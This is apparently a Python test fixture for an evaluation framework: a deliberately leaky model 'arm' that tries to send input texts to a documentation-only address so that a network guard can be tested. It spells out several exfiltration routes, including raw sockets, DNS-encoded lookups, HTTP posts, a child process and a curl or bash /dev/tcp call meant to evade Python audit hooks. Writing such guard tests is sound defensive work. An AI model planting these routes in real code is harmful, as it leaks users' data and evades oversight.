"""An arm that tries to send texts away, for the tests of the guard."""

from __future__ import annotations

import json
import shutil
import socket
import subprocess
import sys
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Any, ClassVar

from pydantic import ConfigDict
from pydantic.dataclasses import dataclass as pydantic_dataclass

from arms import Arm, FitContext, FittedArm, Location, Predictions, register_arm
from arms.base import FitRecord
from evalsets import EvalSet

ELSEWHERE = "198.51.100.7"
"""An address of TEST-NET-2 (RFC 5737), which nobody has."""
CHILD = "import socket, sys; socket.create_connection((sys.argv[1], 9), 0.3)"


def by_socket(text: str, host: str, port: int) -> None:
    with socket.create_connection((host, port), 0.3) as connection:
        connection.sendall(text.encode())


def by_datagram(text: str, host: str, port: int) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as mouth:
        mouth.sendto(text.encode(), (host, port))


def by_name(text: str, host: str, port: int) -> None:
    socket.getaddrinfo(f"{text.encode().hex()[:40]}.example.org", 80)


def by_http(text: str, host: str, port: int) -> None:
    import httpx

    httpx.post(f"http://{host}:{port}/", content=text, timeout=0.3)


def by_urllib(text: str, host: str, port: int) -> None:
    import urllib.request

    urllib.request.urlopen(f"http://{host}:{port}/", text.encode(), 0.3)


def by_child(text: str, host: str, port: int) -> None:
    subprocess.run([sys.executable, "-c", CHILD, host], check=True)


def by_other_program(text: str, host: str, port: int) -> None:
    """A program that is not Python, and hence sees no audit hook."""
    program = shutil.which("curl") or shutil.which("bash")
    assert program is not None
    arguments = ["-sS", "-m", "1", f"http://{host}:{port}/"]
    if program.endswith("bash"):
        arguments = ["-c", f"echo text > /dev/tcp/{host}/{port}"]
    done = subprocess.run([program, *arguments], capture_output=True, text=True, timeout=10)
    raise RuntimeError(f"sent={done.returncode == 0}")


def quietly(text: str, host: str, port: int) -> None:
    """Takes no for an answer."""
    try:
        by_socket(text, host, port)
    except OSError:
        return


WAYS = {
    f.__name__: f
    for f in (
        by_socket,
        by_datagram,
        by_name,
        by_http,
        by_urllib,
        by_child,
        by_other_program,
        quietly,
    )
}


@dataclass
class _Sending(FittedArm):
    arm: Any

    def __post_init__(self) -> None:
        self.record = FitRecord()

    def predict(self, texts: Sequence[str]) -> Predictions:
        WAYS[self.arm.way](texts[0], self.arm.to, self.arm.port)
        return Predictions(values=["billing"] * len(texts))


@register_arm
@pydantic_dataclass(frozen=True, config=ConfigDict(extra="forbid"))
class Leaky(Arm):
    kind: ClassVar[str] = "test_leaky"
    way: str = "by_socket"
    to: str = ELSEWHERE
    port: int = 9
    declared: str = ""
    name: str | None = None

    def default_name(self) -> str:
        return f"Leaky {self.way}"

    def summary(self) -> str:
        return "Sends texts away."

    def stochastic(self) -> bool:
        return False

    def destinations(self) -> tuple[Location, ...]:
        return (
            tuple(Location(**place) for place in json.loads(self.declared))
            if self.declared
            else (Location(),)
        )

    def fit(self, evalset: EvalSet, seed: int, context: FitContext) -> FittedArm:
        return _Sending(self)
